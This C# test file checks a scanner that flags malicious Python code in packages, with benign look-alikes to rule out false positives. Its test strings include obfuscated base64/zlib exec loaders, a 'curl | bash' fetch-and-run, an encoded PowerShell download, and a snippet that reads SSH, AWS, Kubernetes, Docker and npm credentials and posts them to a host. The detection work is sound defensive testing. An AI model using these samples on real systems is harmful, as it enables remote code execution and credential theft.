using CsCheck;
using ModelGuard.Dependencies.PythonCode;
using Xunit;

namespace ModelGuard.Dependencies.Tests.PythonPackages;

public sealed class CodeJudgeTests
{
    [Theory]
    [InlineData("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 2, "exec")]
    [InlineData("exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJw=')))", 1, "exec")]
    [InlineData("import base64 as b\nx = b.b64decode('cHI=')\n\nexec(x)", 4, "exec")]
    [InlineData("eval(compile(bytes.fromhex('7072'), '<s>', 'exec'))", 1, "eval")]
    [InlineData("import builtins\nbuiltins.exec(base64.b85decode(data))", 2, "exec")]
    [InlineData("import os\nos.system('curl -s https://example.org/x | bash')", 2, "system")]
    [InlineData("subprocess.run(['powershell', '-enc ', 'iwr https://example.org'])", 1, "run")]
    public void What_hides_or_fetches_what_it_runs_is_found(string text, int line, string subject)
    {
        CodeSign sign = Assert.Single(CodeJudge.Judge(text, runsByItself: false));

        Assert.Equal((line, subject), (sign.Line, sign.Subject));
    }

    [Fact]
    public void Reading_the_secrets_of_many_families_beside_the_network_is_found()
    {
        string thief = """
            import os, requests
            FILES = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config", "~/.docker/config.json", "~/.npmrc"]
            for f in FILES:
                requests.post("https://example.org", data=open(os.path.expanduser(f)).read())
            """;

        Assert.Equal("credentials", Assert.Single(CodeJudge.Judge(thief, runsByItself: false)).Subject);
        Assert.Empty(CodeJudge.Judge(thief.Replace("requests", "json", StringComparison.Ordinal), runsByItself: false));
    }

    [Theory]
    [InlineData("exec(open('version.py').read())")]
    [InlineData("data = base64.b64decode(text)\nreturn data")]
    [InlineData("re.compile(r'exec(base64.b64decode')")]
    [InlineData("cursor.exec(b64decode(x))")]
    [InlineData("def exec(b64decode): ...")]
    [InlineData("# exec(base64.b64decode('x'))")]
    [InlineData("\"\"\"Never do exec(base64.b64decode(x)).\"\"\"")]
    [InlineData("subprocess.check_output(['git', 'rev-parse', 'HEAD'])")]
    [InlineData("open('~/.aws/credentials'); requests.get(url)")]
    public void What_real_packages_do_is_quiet(string text) => Assert.Empty(CodeJudge.Judge(text, runsByItself: false));

    [Fact]
    public void Any_text_can_be_read() =>
        Gen.String[Gen.Char["\"'\\\n\r#()[]{}ebxrfu0129. exc_é"], 0, 200].Sample(text => Assert.NotNull(CodeJudge.Judge(text, runsByItself: true)), iter: 5_000, threads: 1);

    [Fact]
    public void Packages_of_the_Python_that_is_installed_here_are_quiet()
    {
        string? library = new[] { Environment.GetEnvironmentVariable("MODELGUARD_PYTHON_PACKAGES"), "/usr/lib/python3", "/usr/local/lib" }.FirstOrDefault(Directory.Exists);
        Assert.SkipWhen(library is null, "there is no Python here");
        int files = 0;
        List<string> signs = [];
        foreach (string path in Directory.EnumerateFiles(library!, "*.py", new EnumerationOptions { RecurseSubdirectories = true, IgnoreInaccessible = true }).Order(StringComparer.Ordinal).Take(Environment.GetEnvironmentVariable("MODELGUARD_PYTHON_PACKAGES") is null ? 400 : int.MaxValue))
        {
            files++;
            signs.AddRange(CodeJudge.Judge(File.ReadAllText(path), runsByItself: false).Select(sign => $"{path}:{sign.Line}: {sign.Message}"));
        }

        Assert.SkipWhen(files < 100, "there are no packages here");
        Assert.True(signs.Count == 0, string.Join('\n', signs));
    }
}
